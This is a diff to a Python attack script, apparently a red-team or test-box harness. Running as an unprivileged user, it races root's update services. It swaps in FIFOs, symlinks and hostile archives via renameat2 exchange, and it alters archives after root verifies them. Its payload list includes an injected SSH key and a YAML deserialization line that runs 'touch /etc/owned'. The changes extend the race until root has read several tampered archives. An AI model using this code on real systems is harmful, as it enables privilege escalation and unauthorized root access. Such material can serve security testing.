@@ -4,7 +4,8 @@ Runs in the box, as that user, with Python's standard library only: `twin.py SEC
 looks for every folder that it may write in, and there puts FIFOs, links, sparse files, folders,
 sockets and hostile archives in the place of what is there and of what root's units look for, by
 renameat2(RENAME_EXCHANGE): from one moment to the next. LOOT holds a genuine release and a hostile
-one, and systems likewise. Prints the folders that it found, one a line, and at the end a count.
+one, and systems likewise. Who may hand over archives goes on, up to LATEST_S more, until root has
+been seen to read ARCHIVES of them. Prints the folders that it found, one a line, and then counts.
 """
 
 from __future__ import annotations
@@ -46,6 +47,11 @@ REQUESTS = (  # what may stand in a file that root reads
     f"ssh_keys: [{KEY}]\n", "hostname: !!python/object/apply:os.system [touch /etc/owned]\n",
 )  # fmt: skip
 PROGRESS = Path("/run/interlude-release/progress.json")
+CURRENT = Path("/opt/interlude/current")
+ARCHIVES = 3  # that root begins to read
+LATEST_S = 60.0  # root's units pause for 5 s after each request
+COMES_S = 15.0  # until root has taken a note, that pause and a busy machine included
+GOES_S = 2.0  # from then on, until it has read a quarter, or will read nothing
 _libc = ctypes.CDLL(None, use_errno=True)
 
 
@@ -136,11 +142,16 @@ class Twin:
         self._things = things(loot, self._chance)
         self.folders = folders()
         self._incoming = [place for place in self.folders if place.name.endswith("incoming")]
-        self._number = 0
         self.done = 0
+        self.read = 0  # archives that root began to read
+
+    @property
+    def _over(self) -> bool:
+        waits = bool(self._incoming) and self.read < ARCHIVES
+        return time.monotonic() > self._until + (LATEST_S if waits else 0.0)
 
     def run(self) -> None:
-        while time.monotonic() < self._until:
+        while not self._over:
             for place in self._incoming:  # what the attack itself took away
                 with contextlib.suppress(OSError):
                     if not place.is_dir() or place.is_symlink():
@@ -149,7 +160,8 @@ class Twin:
             with contextlib.suppress(OSError, UnicodeError):
                 if self._incoming and self._chance.random() < 0.1:
                     place = self._chance.choice(self._incoming)
-                    self._change_while_it_is_read(place, self._chance.choice(["release", "system"]))
+                    kind = self._chance.choice(["release", "system"])
+                    self.read += self._change_while_it_is_read(place, kind)
                 else:
                     self._swap(self._chance.choice(self.folders))
                 self.done += 1
@@ -173,27 +185,26 @@ class Twin:
                 gone(target)
         gone(fresh)
 
-    def _change_while_it_is_read(self, place: Path, kind: str) -> None:
+    def _change_while_it_is_read(self, place: Path, kind: str) -> bool:
         """A genuine archive is asked for; once root has checked a part, that part is another.
 
         What root opens is the archive, a link to it that comes after the first look, or a FIFO that
-        holds root up until the link lies there.
+        holds root up until the link lies there. Returns whether root was seen to read.
         """
         mine, file = place / f"mine-{os.getpid()}.{kind}", place / f"other.{kind}"
         gone(mine)
         gone(file)
         source = self._loot / "good.system"
         if kind == "release":
-            source = self._loot / f"good-{self._number // 3}.release"
-            self._number += 1
+            source = self._loot / f"good-{_newer()}.release"
         shutil.copyfile(source, mine)
-        way = self._chance.choice(["itself", "link", "fifo"])
+        way = self._chance.choice(["itself", "itself", "link", "fifo"])
         asked = mine if way == "itself" else file
         if way == "link":
             file.touch()
         elif way == "fifo":
             os.mkfifo(file)
-        self._ask(place, kind, asked.name)
+        note = self._ask(place, kind, asked.name)
         if way != "itself":
             link = place / f".link-{os.getpid()}"
             gone(link)
@@ -203,7 +214,8 @@ class Twin:
             if end is not None:
                 os.close(end)
             gone(link)
-        self._wait_for_step({"verify"} if kind == "release" else {"verify", "write"}, 0.25)
+        steps = {"verify"} if kind == "release" else {"verify", "write"}
+        reads = self._wait_for_step(note, steps, 0.25)
         with mine.open("r+b") as archive, tarfile.open(fileobj=archive) as inside:
             if kind == "release":
                 archive.seek(inside.getmember("tree.tar.gz").offset_data)
@@ -212,11 +224,13 @@ class Twin:
                 archive.seek(-700, os.SEEK_END)
                 archive.write(b"evil" * 8)
         time.sleep(self._chance.choice([0.1, 1.0]))
+        return reads
 
-    def _ask(self, place: Path, kind: str, name: str) -> None:
+    def _ask(self, place: Path, kind: str, name: str) -> Path:
         note = place / ("wanted" if kind == "release" else "wanted-system")
         gone(note)
         note.write_text(name)
+        return note
 
     def _reader_of(self, fifo: Path) -> int | None:
         """Waits until somebody opens it for reading; None if nobody comes."""
@@ -227,14 +241,28 @@ class Twin:
             time.sleep(0.002)
         return None
 
-    def _wait_for_step(self, steps: set[str], share: float) -> None:
-        limit = time.monotonic() + 3
+    def _wait_for_step(self, note: Path, steps: set[str], share: float) -> bool:
+        """Until root has come that far; False if it takes the note and does not."""
+        limit = time.monotonic() + COMES_S
+        taken = False
         while time.monotonic() < limit:
             with contextlib.suppress(OSError, ValueError, KeyError):
                 said = json.loads(PROGRESS.read_bytes())
                 if said["step"] in steps and said["share"] >= share:
-                    return
+                    return True
+            if not taken and not os.path.lexists(note):
+                taken, limit = True, time.monotonic() + GOES_S
             time.sleep(0.0005)
+        return False
+
+
+def _newer() -> int:
+    """The number of the first genuine release that is newer than what is kept: 0.2.NUMBER."""
+    with contextlib.suppress(OSError):
+        version = CURRENT.readlink().name
+        if version.startswith("0.2."):
+            return min(int(version.removeprefix("0.2.")) + 1, 5)
+    return 0
 
 
 def main() -> None:
@@ -242,6 +270,7 @@ def main() -> None:
     print("\n".join(map(str, twin.folders)), flush=True)
     twin.run()
     print(f"swaps {twin.done}", flush=True)
+    print(f"read {twin.read}", flush=True)
 
 
 if __name__ == "__main__":
